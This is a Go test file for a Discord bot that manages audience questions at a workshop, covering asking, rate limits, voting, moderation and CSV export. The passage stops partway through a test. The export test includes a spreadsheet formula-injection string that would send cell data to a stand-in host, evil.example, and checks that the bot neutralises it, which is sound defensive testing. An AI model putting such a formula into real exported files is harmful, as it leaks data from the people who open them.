package bot_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"errors"
	"fmt"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"workshopbot/bot"
	"workshopbot/bot/features"
	"workshopbot/bot/sqlite"

	"workshopbot/bot/bottest"
)

// questionsSchedule is the program of these tests: two talks and a panel, in
// Berlin. %v is questions.moderated.
const questionsSchedule = `workshop:
  name: Test Workshop on Questions
  short_name: TWQ
  timezone: Europe/Berlin
  date: 2026-06-12
discord:
  moderators_role: Moderators
questions:
  moderated: %v
  per_ten_minutes: 3
sessions:
  - {id: opening, start: "09:00", kind: opening, title: Opening}
  - {id: talk, start: "09:15", kind: invited, title: Solving PDEs with Networks, speakers: [Ada Lovelace]}
  - {id: panel, start: "10:00", end: "11:00", kind: panel, title: Panel Discussion}
`

var (
	berlin, _ = time.LoadLocation("Europe/Berlin")
	// start is when every test begins: during the panel.
	start = time.Date(2026, 6, 12, 10, 5, 0, 0, berlin)

	mod   = bot.User{ID: "100", Name: "Mo Derator", Roles: []string{"Speakers", "moderators"}}
	alice = bot.User{ID: "201", Name: "Alice"}
	bob   = bot.User{ID: "202", Name: "Bob", Roles: []string{"Attendees"}}
	carol = bot.User{ID: "203", Name: "Carol"}
	dave  = bot.User{ID: "204", Name: "Dave Incognito"}
)

// recorder is a bot.Transport and bot.Editor that keeps what it was asked to do.
type recorder struct {
	mu      sync.Mutex
	posts   []bot.Message
	ids     []string // message id of each post
	edits   []edited
	changed chan struct{} // closed, and replaced, at each post or edit
	onPost  func(bot.Message)
	fail    int // posts and edits to fail before any succeeds, as Discord's 5xx after the transport's retries
	failed  int // how many were failed
}

// failing reports whether this call fails, counting it; r.mu must be held.
func (r *recorder) failing() bool {
	if r.fail == 0 {
		return false
	}
	r.fail--
	r.failed++
	r.notify()
	return true
}

type edited struct {
	channelID, messageID string
	m                    bot.Message
}

var _ bot.Editor = (*recorder)(nil)

func newRecorder() *recorder { return &recorder{changed: make(chan struct{})} }

func (r *recorder) Post(_ context.Context, m bot.Message) (bot.Posted, error) {
	r.mu.Lock()
	if r.failing() {
		r.mu.Unlock()
		return bot.Posted{}, errors.New("POST: 503 Service Unavailable")
	}
	id := fmt.Sprintf("msg-%d", len(r.posts)+1)
	r.posts = append(r.posts, m)
	r.ids = append(r.ids, id)
	r.notify()
	hook := r.onPost
	r.mu.Unlock()
	if hook != nil {
		hook(m)
	}
	return bot.Posted{ChannelID: "chan-" + m.Channel, MessageID: id}, nil
}

func (r *recorder) Edit(_ context.Context, channelID, messageID string, m bot.Message) error {
	r.mu.Lock()
	defer r.mu.Unlock()
	if r.failing() {
		return errors.New("PATCH: 503 Service Unavailable")
	}
	r.edits = append(r.edits, edited{channelID, messageID, m})
	r.notify()
	return nil
}

// notify wakes waitFor; r.mu must be held.
func (r *recorder) notify() {
	close(r.changed)
	r.changed = make(chan struct{})
}

// cards returns the posts in channel, by nonce, with their message ids.
func (r *recorder) cards(channel string) map[string][]string {
	r.mu.Lock()
	defer r.mu.Unlock()
	out := map[string][]string{}
	for i, m := range r.posts {
		if m.Channel == channel {
			out[m.Nonce] = append(out[m.Nonce], r.ids[i])
		}
	}
	return out
}

// card returns the message posted with nonce, if any.
func (r *recorder) card(nonce string) (bot.Message, string, bool) {
	r.mu.Lock()
	defer r.mu.Unlock()
	for i, m := range r.posts {
		if m.Nonce == nonce {
			return m, r.ids[i], true
		}
	}
	return bot.Message{}, "", false
}

// lastEdit returns the last edit of messageID, if any.
func (r *recorder) lastEdit(messageID string) (edited, bool) {
	r.mu.Lock()
	defer r.mu.Unlock()
	for i := len(r.edits) - 1; i >= 0; i-- {
		if r.edits[i].messageID == messageID {
			return r.edits[i], true
		}
	}
	return edited{}, false
}

// waitFor waits until cond holds, checking it at each post or edit, for at most
// a few seconds.
func (r *recorder) waitFor(t *testing.T, what string, cond func() bool) {
	t.Helper()
	deadline := time.After(10 * time.Second)
	for {
		r.mu.Lock()
		changed := r.changed
		r.mu.Unlock()
		if cond() {
			return
		}
		select {
		case <-changed:
		case <-deadline:
			t.Fatalf("timed out waiting for %s", what)
		}
	}
}

// env is a bot on a real SQLite store, a recorder and a manual clock.
type env struct {
	t     *testing.T
	b     *bot.Bot
	db    *sqlite.DB
	qs    bot.QuestionStore // the bot's question store: db, or a wrapper of it
	tr    *recorder
	clock *bottest.Clock
	sched *bot.Schedule
}

func newEnv(t *testing.T, moderated bool) *env {
	t.Helper()
	sched, err := bot.ParseSchedule("questions.yaml", fmt.Appendf(nil, questionsSchedule, moderated))
	if err != nil {
		t.Fatal(err)
	}
	db, err := sqlite.Open(context.Background(), filepath.Join(t.TempDir(), "workshopbot.db"))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { db.Close() })
	e := &env{t: t, db: db, qs: db, tr: newRecorder(), clock: bottest.NewClock(start), sched: sched}
	e.b = e.newBot()
	return e
}

// newBot is a bot on e's store, transport and clock: a second one is the bot
// after a restart.
func (e *env) newBot() *bot.Bot {
	b, err := bot.New(bot.Config{Features: features.All(),
		Program: &bot.Program{Schedule: e.sched}, Clock: e.clock,
		Store: e.db, Questions: e.qs, Transport: e.tr,
	})
	if err != nil {
		e.t.Fatal(err)
	}
	return b
}

// run runs b until the returned stop is called (or the test ends); stop waits
// for Run to return and checks its error.
func (e *env) run(b *bot.Bot) (stop func()) {
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan error, 1)
	go func() { done <- b.Run(ctx, bot.RunOptions{}) }()
	var once sync.Once
	stop = func() {
		once.Do(func() {
			cancel()
			if err := <-done; !stoppedCleanly(err) {
				e.t.Errorf("Run: %v", err)
			}
		})
	}
	e.t.Cleanup(stop)
	return stop
}

// stoppedCleanly reports whether err is what Run returns when its ctx is
// cancelled. That is nil, or context.Canceled when the cancel lands while Step
// is reading or writing reminders (Run passes ctx to the store).
func stoppedCleanly(err error) bool { return err == nil || errors.Is(err, context.Canceled) }

// cmd runs the slash command name as u, with options given as name, value pairs.
func (e *env) cmd(u bot.User, name string, opts ...string) bot.Reply {
	o := map[string]string{}
	for i := 0; i+1 < len(opts); i += 2 {
		o[opts[i]] = opts[i+1]
	}
	return e.b.Handle(context.Background(), bot.Command{Name: name, Options: o, User: u, Channel: "panel-questions"})
}

func (e *env) ask(u bot.User, text string, opts ...string) bot.Reply {
	return e.cmd(u, "ask", append([]string{"question", text}, opts...)...)
}

// mustAsk asks and returns the new question's number.
func (e *env) mustAsk(u bot.User, text string, opts ...string) int64 {
	e.t.Helper()
	r := e.ask(u, text, opts...)
	id, ok := receivedID(r)
	if !ok {
		e.t.Fatalf("/ask %q: %q, want Received", text, r.Content)
	}
	return id
}

func (e *env) press(u bot.User, action string, id int64) bot.Reply {
	return e.b.Handle(context.Background(), bot.Command{User: u, Button: fmt.Sprintf("q:%s:%d", action, id)})
}

func (e *env) get(id int64) bot.Question {
	e.t.Helper()
	q, err := e.db.Question(context.Background(), id)
	if err != nil {
		e.t.Fatal(err)
	}
	return q
}

func (e *env) all() []bot.Question {
	e.t.Helper()
	qs, err := e.db.Questions(context.Background(), bot.QuestionFilter{})
	if err != nil {
		e.t.Fatal(err)
	}
	return qs
}

var receivedRE = regexp.MustCompile(`^Received: your question #(\d+) `)

// receivedID is the question number a "Received" reply gives.
func receivedID(r bot.Reply) (int64, bool) {
	m := receivedRE.FindStringSubmatch(r.Content)
	if m == nil {
		return 0, false
	}
	id, err := strconv.ParseInt(m[1], 10, 64)
	return id, err == nil
}

func TestAsk(t *testing.T) {
	mentions := "@everyone <@&123> and <@456>: is this @here a ping?"
	tests := []struct {
		name        string
		text        string
		opts        []string
		want        string // the whole reply, with #N for the new question's number
		wantText    string // as stored; "" for text itself
		wantSession string // "" if refused
		wantAnon    bool
	}{
		{
			name: "happy path", text: "What is the role of adjoint methods?",
			want: "Received: your question #1 for **Panel Discussion** is in the queue.", wantSession: "panel",
		},
		{
			name: "spaces around are trimmed", text: "  \n What about stiff systems?\t ", wantText: "What about stiff systems?",
			want: "Received: your question #1 for **Panel Discussion** is in the queue.", wantSession: "panel",
		},
		{
			name: "zero-width spaces only", text: strings.Repeat("\u200b", 20),
			want: "Your question shows 0 characters (the rest are invisible); please write at least 10.",
		},
		{
			name: "braille blanks and Hangul fillers only", text: strings.Repeat("\u2800\u3164", 10),
			want: "Your question shows 0 characters (the rest are invisible); please write at least 10.",
		},
		{
			name: "short text padded with invisibles", text: "Why?" + strings.Repeat("\u200b\u2060\ufeff", 5),
			want: "Your question shows 4 characters (the rest are invisible); please write at least 10.",
		},
		{
			name: "bidi overrides and isolates are dropped", text: "Is \u202egnorw\u202c this \u2066right\u2069?",
			wantText: "Is gnorw this right?",
			want:     "Received: your question #1 for **Panel Discussion** is in the queue.", wantSession: "panel",
		},
		{
			name: "control characters dropped, a tab becomes a space", text: "What\tabout \x1b[31mred\x07 text?",
			wantText: "What about [31mred text?",
			want:     "Received: your question #1 for **Panel Discussion** is in the queue.", wantSession: "panel",
		},
		{
			name: "emoji with a zero-width joiner stay", text: "Can a 👩\u200d💻 join the panel?",
			want: "Received: your question #1 for **Panel Discussion** is in the queue.", wantSession: "panel",
		},
		{
			name: "10 characters", text: "Why ODEs??",
			want: "Received: your question #1 for **Panel Discussion** is in the queue.", wantSession: "panel",
		},
		{name: "9 characters", text: "Why ODEs?", want: "Your question is 9 characters; please write at least 10."},
		{
			name: "1000 characters, counted as characters not bytes", text: strings.Repeat("é", 999) + "?",
			want: "Received: your question #1 for **Panel Discussion** is in the queue.", wantSession: "panel",
		},
		{name: "1001 characters", text: strings.Repeat("a", 1001), want: "Your question is 1001 characters; the limit is 1000. Please shorten it."},
		{name: "not UTF-8", text: "What about \xff\xfe this?", want: "Your question is not valid text (UTF-8). Please type it again."},
		{
			name: "for a session by id", text: "How deep were your networks?", opts: []string{"session", "talk"},
			want: "Received: your question #1 for **Solving PDEs with Networks** is in the queue.", wantSession: "talk",
		},
		{
			name: "for a session by title, in any case", text: "How deep were your networks?", opts: []string{"session", "solving pdes with NETWORKS"},
			want: "Received: your question #1 for **Solving PDEs with Networks** is in the queue.", wantSession: "talk",
		},
		{
			name: "unknown session", text: "How deep were your networks?", opts: []string{"session", "keynote"},
			want: `There is no session "keynote". Pick one from the list, or leave it empty for the panel.`,
		},
		{
			name: "mentions are stored as they are", text: mentions,
			want: "Received: your question #1 for **Panel Discussion** is in the queue.", wantSession: "panel",
		},
		{
			name: "anonymous", text: "Is this a silly question?", opts: []string{"anonymous", "true"},
			want: "Received: your question #1 for **Panel Discussion** is in the queue.", wantSession: "panel", wantAnon: true,
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			e := newEnv(t, false)
			r := e.ask(alice, tt.text, tt.opts...)
			if r.Content != tt.want || !r.Ephemeral {
				t.Errorf("reply %q (ephemeral %v), want %q, ephemeral", r.Content, r.Ephemeral, tt.want)
			}
			// The store is looked at as soon as Handle returns: "Received" means stored.
			qs := e.all()
			if tt.wantSession == "" {
				if len(qs) != 0 {
					t.Errorf("refused question stored: %+v", qs)
				}
				return
			}
			if len(qs) != 1 {
				t.Fatalf("%d questions stored, want 1", len(qs))
			}
			wantText := tt.wantText
			if wantText == "" {
				wantText = tt.text
			}
			q := qs[0]
			if q.ID != 1 || q.Text != wantText || q.SessionID != tt.wantSession || q.AskerID != alice.ID || q.AskerName != alice.Name ||
				q.Anonymous != tt.wantAnon || q.Status != bot.QuestionOpen || q.Votes != 0 || !q.AskedAt.Equal(start) {
				t.Errorf("stored %+v, want #1 %q for %s by %s (anonymous %v), open, asked at %s", q, wantText, tt.wantSession, alice.ID, tt.wantAnon, start)
			}
		})
	}
}

func TestAskRefusesExactRepeat(t *testing.T) {
	e := newEnv(t, false)
	steps := []struct {
		user bot.User
		text string
		ok   bool
	}{
		{alice, "What is a neural ODE?", true},
		{alice, "What is a neural ODE?", false},
		{alice, "   What is a neural ODE?  ", false}, // the same once trimmed
		{alice, "what is a neural ODE?", true},       // not exactly the same
		{alice, "What is a neural ODE??", true},
		{bob, "What is a neural ODE?", true}, // someone else's
	}
	for i, s := range steps {
		e.clock.Advance(time.Second)
		r := e.ask(s.user, s.text)
		_, ok := receivedID(r)
		if ok != s.ok {
			t.Errorf("step %d: %s asks %q: %q, want received=%v", i, s.user.Name, s.text, r.Content, s.ok)
		}
		if !s.ok && r.Content != "You already asked exactly this question, and it is in the queue. No need to ask twice!" {
			t.Errorf("step %d: refusal %q", i, r.Content)
		}
	}
	if n := len(e.all()); n != 4 {
		t.Errorf("%d questions stored, want 4", n)
	}
}

func TestAskRateLimit(t *testing.T) {
	e := newEnv(t, false) // per_ten_minutes: 3
	refused := "You have asked 3 questions in the last 10 minutes, the most allowed. Please wait a little, and upvote others' questions meanwhile."
	steps := []struct {
		at   time.Duration // after start
		user bot.User
		want string // "" for received
	}{
		{0, alice, ""},
		{time.Minute, alice, ""},
		{2 * time.Minute, alice, ""},
		{3 * time.Minute, alice, refused},
		{3 * time.Minute, bob, ""}, // others are not held back
		{9*time.Minute + 59*time.Second, alice, refused},
		{10*time.Minute + time.Second, alice, ""}, // the first has left the window
		{10*time.Minute + 2*time.Second, alice, refused},
		{12*time.Minute + time.Second, alice, ""}, // the second and third too
	}
	for i, s := range steps {
		e.clock.Advance(start.Add(s.at).Sub(e.clock.Now()))
		r := e.ask(s.user, fmt.Sprintf("Question number %d from %s", i, s.user.Name))
		if _, ok := receivedID(r); ok != (s.want == "") || (s.want != "" && r.Content != s.want) {
			t.Errorf("step %d: %s at +%v: %q, want %q", i, s.user.Name, s.at, r.Content, s.want)
		}
	}
}

// The per-user limit and the repeat check hold when one attendee's /ask
// arrive all at once (issue 11, item 6): counting, checking and storing are
// one step, so 30 simultaneous asks with a limit of 3 store exactly 3, and 30
// simultaneous copies of one question store it once.
func TestAskLimitsHoldUnderConcurrency(t *testing.T) {
	const n = 30
	limited := "You have asked 3 questions in the last 10 minutes, the most allowed. Please wait a little, and upvote others' questions meanwhile."
	repeat := "You already asked exactly this question, and it is in the queue. No need to ask twice!"
	for _, tt := range []struct {
		name    string
		text    func(i int) string
		stored  int
		refusal string
	}{
		{"per-user limit", func(i int) string { return fmt.Sprintf("Simultaneous question %d from Alice", i) }, 3, limited},
		{"repeat check", func(int) string { return "The same question, sent thirty times at once" }, 1, repeat},
	} {
		t.Run(tt.name, func(t *testing.T) {
			e := newEnv(t, false)
			replies := make([]bot.Reply, n)
			var wg sync.WaitGroup
			ready := make(chan struct{})
			for i := range n {
				wg.Go(func() {
					<-ready
					replies[i] = e.ask(alice, tt.text(i))
				})
			}
			close(ready)
			wg.Wait()
			got := 0
			for i, r := range replies {
				if _, ok := receivedID(r); ok {
					got++
				} else if r.Content != tt.refusal {
					t.Errorf("/ask %d: %q, want Received or %q", i, r.Content, tt.refusal)
				}
			}
			if got != tt.stored {
				t.Errorf("%d of %d simultaneous /ask answered Received, want %d", got, n, tt.stored)
			}
			if all := e.all(); len(all) != tt.stored {
				t.Errorf("%d questions stored, want %d", len(all), tt.stored)
			}
		})
	}
}

func TestQuestionsCommandsAreForModerators(t *testing.T) {
	e := newEnv(t, false)
	id := e.mustAsk(alice, "Will the slides be shared?")
	before := e.get(id)
	n := 0
	for _, spec := range bot.Specs(features.All()) {
		if !strings.HasPrefix(spec.Name, "questions ") {
			continue
		}
		n++
		for _, u := range []bot.User{alice, bob} {
			r := e.cmd(u, spec.Name, "id", strconv.FormatInt(id, 10), "session", "panel")
			want := fmt.Sprintf("`/%s` is for moderators (role \"Moderators\").", spec.Name)
			if r.Content != want || !r.Ephemeral || len(r.Files) != 0 {
				t.Errorf("/%s by %s: %q (files %d), want %q", spec.Name, u.Name, r.Content, len(r.Files), want)
			}
		}
	}
	if n != 6 {
		t.Errorf("%d /questions commands checked, want 6", n)
	}
	if after := e.get(id); after != before {
		t.Errorf("attendees' commands changed the question: %+v, was %+v", after, before)
	}
}

func TestQuestionsNextFollowsVotes(t *testing.T) {
	e := newEnv(t, false)
	for i, u := range []bot.User{alice, bob, carol, alice} {
		e.clock.Advance(time.Minute)
		e.mustAsk(u, fmt.Sprintf("Question %d: what comes next?", i+1))
	}
	// Votes by button; a second press takes the vote back.
	presses := []struct {
		user  bot.User
		id    int64
		votes int
	}{
		{alice, 3, 1}, {bob, 3, 2}, {carol, 2, 1}, {carol, 4, 1}, {carol, 4, 0}, {bob, 4, 1}, {bob, 4, 0},
	}
	for i, p := range presses {
		r := e.press(p.user, "vote", p.id)
		if r.Update == nil {
			t.Fatalf("press %d: reply %q, want an update of the card", i, r.Content)
		}
		want := bot.QuestionCard(e.sched, e.get(p.id))
		if e.get(p.id).Votes != p.votes || !slices.Equal(r.Update.Buttons, want.Buttons) || r.Update.Content != want.Content {
			t.Errorf("press %d (%s on #%d): update %+v, want %d votes: %+v", i, p.user.Name, p.id, *r.Update, p.votes, want)
		}
		if label := fmt.Sprintf("Upvote (%d)", p.votes); r.Update.Buttons[0].Label != label || !strings.Contains(r.Update.Content, fmt.Sprintf("👍 %d", p.votes)) {
			t.Errorf("press %d: update shows %q / %q, want %q", i, r.Update.Buttons[0].Label, r.Update.Content, label)
		}
	}

	// #3 (2 votes), #2 (1), then the oldest of the rest, #1, then #4.
	for i, want := range []struct {
		id    int64
		votes int
		prev  int64
	}{{3, 2, 0}, {2, 1, 3}, {1, 0, 2}, {4, 0, 1}} {
		e.clock.Advance(time.Minute)
		r := e.cmd(mod, "questions next")
		head := fmt.Sprintf("🎙️ On stage: **Q%d** (👍 %d) for Panel Discussion\n> Question %d: what comes next?\n— ", want.id, want.votes, want.id)
		if !strings.HasPrefix(r.Content, head) || !r.Ephemeral {
			t.Errorf("next %d: %q, want it to start with %q", i, r.Content, head)
		}
		if q := e.get(want.id); q.Status != bot.QuestionOnStage || !q.UpdatedAt.Equal(e.clock.Now()) {
			t.Errorf("next %d: #%d is %s updated %s, want onstage now", i, want.id, q.Status, q.UpdatedAt)
		}
		if want.prev != 0 {
			if q := e.get(want.prev); q.Status != bot.QuestionAnswered {
				t.Errorf("next %d: previous #%d is %s, want answered", i, want.prev, q.Status)
			}
		}
	}
	if r := e.cmd(mod, "questions next"); r.Content != "No open question left." {
		t.Errorf("next with none left: %q", r.Content)
	}
	if q := e.get(4); q.Status != bot.QuestionAnswered {
		t.Errorf("the last on stage is %s after next found none, want answered", q.Status)
	}

	buttons := []struct {
		name, button, want string
	}{
		{"vote on an answered question", "q:vote:3", "Question #3 is answered; votes are closed."},
		{"vote on an unknown question", "q:vote:99", "Question #99 does not exist."},
		{"not a question number", "q:vote:x", "This button is not known to the bot (any more)."},
		{"unknown action", "q:frobnicate:1", "This button is not known to the bot (any more)."},
	}
	for _, b := range buttons {
		r := e.b.Handle(context.Background(), bot.Command{User: alice, Button: b.button})
		if r.Content != b.want || r.Update != nil {
			t.Errorf("%s: %q (update %v), want %q", b.name, r.Content, r.Update != nil, b.want)
		}
	}
}

func TestQuestionsNextForASession(t *testing.T) {
	e := newEnv(t, false)
	e.mustAsk(alice, "A question for the panel")
	e.mustAsk(alice, "A question for the talk", "session", "talk")
	r := e.cmd(mod, "questions next", "session", "talk")
	if !strings.HasPrefix(r.Content, "🎙️ On stage: **Q2** (👍 0) for Solving PDEs with Networks\n") {
		t.Errorf("next for the talk: %q", r.Content)
	}
	if r := e.cmd(mod, "questions next", "session", "talk"); r.Content != "No open question left for Solving PDEs with Networks." {
		t.Errorf("next for the talk again: %q", r.Content)
	}
	if r := e.cmd(mod, "questions next", "session", "keynote"); r.Content != `There is no session "keynote".` {
		t.Errorf("next for an unknown session: %q", r.Content)
	}
	if q := e.get(1); q.Status != bot.QuestionOpen {
		t.Errorf("the panel's question is %s, want open", q.Status)
	}
}

func TestAnonymousQuestion(t *testing.T) {
	e := newEnv(t, false)
	id := e.mustAsk(bob, "Is the emperor wearing clothes?", "anonymous", "true")
	card := bot.QuestionCard(e.sched, e.get(id))
	if !strings.HasSuffix(card.Content, "\n— anonymous") || strings.Contains(card.Content, bob.Name) {
		t.Errorf("attendees' card %q, want it to end with \"— anonymous\" and not name %s", card.Content, bob.Name)
	}
	r := e.cmd(mod, "questions next")
	if want := "— anonymous (asked by Bob, visible to moderators only)"; !strings.HasSuffix(r.Content, want) || !r.Ephemeral {
		t.Errorf("moderators' next: %q (ephemeral %v), want it to end with %q", r.Content, r.Ephemeral, want)
	}
}

func TestQuestionStatusCommands(t *testing.T) {
	e := newEnv(t, false)
	e.mustAsk(alice, "The first question here")
	e.mustAsk(bob, "The second question here")
	steps := []struct {
		cmd, id, want string
		wantStatus    bot.QuestionStatus // of question 1
	}{
		{"questions answered", "1", "Question #1 is now answered.", bot.QuestionAnswered},
		{"questions answered", "1", "Question #1 is answered already.", bot.QuestionAnswered},
		{"questions dismiss", "1", "Question #1 is answered already.", bot.QuestionAnswered},
		{"questions reopen", "1", "Question #1 is now open.", bot.QuestionOpen},
		{"questions reopen", "1", "Question #1 is open already.", bot.QuestionOpen},
		{"questions dismiss", " #1 ", "Question #1 is now dismissed.", bot.QuestionDismissed},
		{"questions answered", "1", "Question #1 is dismissed already.", bot.QuestionDismissed},
		{"questions reopen", "1", "Question #1 is now open.", bot.QuestionOpen},
		{"questions next", "", "", bot.QuestionOnStage},
		{"questions reopen", "1", "Question #1 is now open.", bot.QuestionOpen}, // off the stage, back in the queue
		{"questions answered", "99", "There is no question #99.", bot.QuestionOpen},
		{"questions dismiss", "abc", `"abc" is not a question number.`, bot.QuestionOpen},
		{"questions reopen", "0", `"0" is not a question number.`, bot.QuestionOpen},
		{"questions answered", "-1", `"-1" is not a question number.`, bot.QuestionOpen},
	}
	for i, s := range steps {
		e.clock.Advance(time.Minute)
		r := e.cmd(mod, s.cmd, "id", s.id)
		if s.want != "" && (r.Content != s.want || !r.Ephemeral) {
			t.Errorf("step %d: /%s %s: %q, want %q", i, s.cmd, s.id, r.Content, s.want)
		}
		if q := e.get(1); q.Status != s.wantStatus {
			t.Errorf("step %d: /%s %s: question 1 is %s, want %s", i, s.cmd, s.id, q.Status, s.wantStatus)
		}
	}
	if q := e.get(2); q.Status != bot.QuestionOpen {
		t.Errorf("question 2 is %s, want open: the commands were about question 1", q.Status)
	}
}

func TestQuestionsList(t *testing.T) {
	e := newEnv(t, false)
	if r := e.cmd(mod, "questions list"); r.Content != "No questions." {
		t.Errorf("empty list: %q", r.Content)
	}
	e.mustAsk(alice, "The first question here")
	e.clock.Advance(time.Minute)
	e.mustAsk(bob, "The second question here")
	e.clock.Advance(time.Minute)
	e.mustAsk(carol, "A question\nfor the talk, on two lines", "session", "talk")
	e.press(alice, "vote", 2)
	e.cmd(mod, "questions answered", "id", "1")

	tests := []struct {
		name string
		opts []string
		want string
	}{
		{"all", nil, "3 questions, top-voted first:\n" +
			"`#2` 👍 1 · open · Panel Discussion — The second question here\n" +
			"`#1` 👍 0 · answered · Panel Discussion — The first question here\n" +
			"`#3` 👍 0 · open · Solving PDEs with Networks — A question for the talk, on two lines"},
		{"by status, in any case", []string{"status", "OPEN"}, "2 questions, top-voted first:\n" +
			"`#2` 👍 1 · open · Panel Discussion — The second question here\n" +
			"`#3` 👍 0 · open · Solving PDEs with Networks — A question for the talk, on two lines"},
		{"by session", []string{"session", "talk"}, "1 question for Solving PDEs with Networks, top-voted first:\n" +
			"`#3` 👍 0 · open · Solving PDEs with Networks — A question for the talk, on two lines"},
		{"none match", []string{"status", "dismissed"}, "No questions."},
		{"unknown status", []string{"status", "bogus"}, `Unknown status "bogus": use open, onstage, waiting, answered or dismissed.`},
		{"unknown session", []string{"session", "keynote"}, `There is no session "keynote".`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := e.cmd(mod, "questions list", tt.opts...)
			if r.Content != tt.want || !r.Ephemeral {
				t.Errorf("got:\n%s\nwant:\n%s", r.Content, tt.want)
			}
		})
	}
}

func TestQuestionsExport(t *testing.T) {
	e := newEnv(t, false)
	asks := []struct {
		user bot.User
		text string
		opts []string
	}{
		{alice, "A plain question, with a comma", nil},
		{dave, "A question asked without a name", []string{"anonymous", "true"}},
		{carol, `=HYPERLINK("http://evil.example/?leak="&A1,"Click for the slides")`, nil},
		{carol, "+1 to the question about slides", nil},
		{alice, "@everyone \"quoted\" words\nand a second line", nil},
		{bob, "A question for the talk", []string{"session", "talk"}},
	}
	for _, a := range asks {
		e.clock.Advance(time.Minute)
		e.mustAsk(a.user, a.text, a.opts...)
	}
	e.press(alice, "vote", 3)
	e.clock.Advance(time.Minute)
	e.cmd(mod, "questions answered", "id", "1")

	r := e.cmd(mod, "questions export")
	if r.Content != "6 questions." || !r.Ephemeral || len(r.Files) != 1 {
		t.Fatalf("export: %q, ephemeral %v, %d files; want \"6 questions.\" with one file", r.Content, r.Ephemeral, len(r.Files))
	}
	f := r.Files[0]
	if f.Name != "questions.csv" || f.ContentType != "text/csv" {
		t.Errorf("file %s (%s), want questions.csv (text/csv)", f.Name, f.ContentType)
	}
	if bytes.Contains(f.Data, []byte(dave.Name)) || bytes.Contains(f.Data, []byte(dave.ID)) {
		t.Errorf("the export names the anonymous asker %s:\n%s", dave.Name, f.Data)
	}
	rows, err := csv.NewReader(bytes.NewReader(f.Data)).ReadAll()
	if err != nil {
		t.Fatalf("export is not CSV: %v\n%s", err, f.Data)
	}
	header := []string{"id", "session", "session_title", "status", "votes", "asked_at", "updated_at", "asker", "question"}
	if len(rows) == 0 || !slices.Equal(rows[0], header) {
		t.Fatalf("header %v, want %v", rows[0], header)
	}
	got := map[string][]string{}
	for _, row := range rows[1:] {
		got[row[0]] = row
	}
	want := [][]string{
		{"3", "panel", "Panel Discussion", "open", "1", "2026-06-12T10:08:00+02:00", "2026-06-12T10:08:00+02:00", "Carol", `'=HYPERLINK("http://evil.example/?leak="&A1,"Click for the slides")`},
		{"1", "panel", "Panel Discussion", "answered", "0", "2026-06-12T10:06:00+02:00", "2026-06-12T10:12:00+02:00", "Alice", "A plain question, with a comma"},
		{"2", "panel", "Panel Discussion", "open", "0", "2026-06-12T10:07:00+02:00", "2026-06-12T10:07:00+02:00", "anonymous", "A question asked without a name"},
		{"4", "panel", "Panel Discussion", "open", "0", "2026-06-12T10:09:00+02:00", "2026-06-12T10:09:00+02:00", "Carol", "'+1 to the question about slides"},
		{"5", "panel", "Panel Discussion", "open", "0", "2026-06-12T10:10:00+02:00", "2026-06-12T10:10:00+02:00", "Alice", "'@everyone \"quoted\" words\nand a second line"},
		{"6", "talk", "Solving PDEs with Networks", "open", "0", "2026-06-12T10:11:00+02:00", "2026-06-12T10:11:00+02:00", "Bob", "A question for the talk"},
	}
	if len(rows) != len(want)+1 {
		t.Errorf("%d rows, want %d: every question", len(rows)-1, len(want))
	}
	for i, w := range want {
		if i+1 < len(rows) && !slices.Equal(rows[i+1], w) {
			t.Errorf("row %d:\n got %q\nwant %q", i+1, rows[i+1], w)
		}
		if !slices.Equal(got[w[0]], w) {
			t.Errorf("question %s: got %q, want %q", w[0], got[w[0]], w)
		}
	}

	r = e.cmd(mod, "questions export", "session", "talk")
	rows, err = csv.NewReader(bytes.NewReader(r.Files[0].Data)).ReadAll()
	if err != nil || r.Content != "1 question for Solving PDEs with Networks." || len(rows) != 2 || rows[1][0] != "6" {
		t.Errorf("export of the talk: %q, rows %q (%v), want question 6 only", r.Content, rows, err)
	}
}

func TestModeratedQuestions(t *testing.T) {
	e := newEnv(t, true)
	stop := e.run(e.b)

	id := e.mustAsk(alice, "Could you compare with finite elements?")
	if r := e.ask(alice, "Can I ask before approval?"); r.Content != "Received: your question #2 for **Panel Discussion** will be shown once a moderator approves it." {
		t.Errorf("moderated /ask: %q", r.Content)
	}
	if q := e.get(id); q.Status != bot.QuestionWaiting {
		t.Fatalf("question is %s, want waiting", q.Status)
	}
	e.tr.waitFor(t, "the moderators' cards", func() bool { return len(e.tr.cards(bot.ChannelModerators)) == 2 })
	modCard, _, _ := e.tr.card("qm:1")
	wantButtons := []bot.Button{
		{ID: "q:approve:1", Label: "Approve", Style: bot.ButtonSuccess},
		{ID: "q:dismiss:1", Label: "Dismiss", Style: bot.ButtonDanger},
	}
	if !slices.Equal(modCard.Buttons, wantButtons) || !strings.Contains(modCard.Content, "⏳ waiting for approval") || modCard.PingRole {
		t.Errorf("moderators' card %+v, want buttons %+v", modCard, wantButtons)
	}

	if r := e.press(alice, "vote", id); r.Content != "Question #1 is waiting; votes are closed." {
		t.Errorf("vote while waiting: %q", r.Content)
	}
	if r := e.cmd(mod, "questions next"); r.Content != "No open question left." {
		t.Errorf("next while all wait: %q", r.Content)
	}
	for _, action := range []string{"approve", "dismiss"} {
		if r := e.press(bob, action, id); r.Content != `Only moderators (role "Moderators") can approve or dismiss questions.` || r.Update != nil {
			t.Errorf("%s by an attendee: %q", action, r.Content)
		}
	}
	if q := e.get(id); q.Status != bot.QuestionWaiting {
		t.Fatalf("after attendees pressed: question is %s, want waiting", q.Status)
	}

	r := e.press(mod, "approve", id)
	if r.Update == nil || !strings.HasSuffix(r.Update.Content, "\nApproved by Mo Derator") || !r.Update.Buttons[0].Disabled || !r.Update.Buttons[1].Disabled {
		t.Errorf("approve: %+v, want the moderators' card updated, buttons disabled", r)
	}
	if q := e.get(id); q.Status != bot.QuestionOpen {
		t.Errorf("approved question is %s, want open", q.Status)
	}
	if r := e.press(mod, "dismiss", id); r.Content != "Question #1 was already handled by another moderator." {
		t.Errorf("dismiss after approve: %q", r.Content)
	}
	if r := e.press(mod, "dismiss", 2); r.Update == nil || !strings.HasSuffix(r.Update.Content, "\nDismissed by Mo Derator") {
		t.Errorf("dismiss: %+v", r)
	}
	if q := e.get(2); q.Status != bot.QuestionDismissed {
		t.Errorf("dismissed question is %s", q.Status)
	}

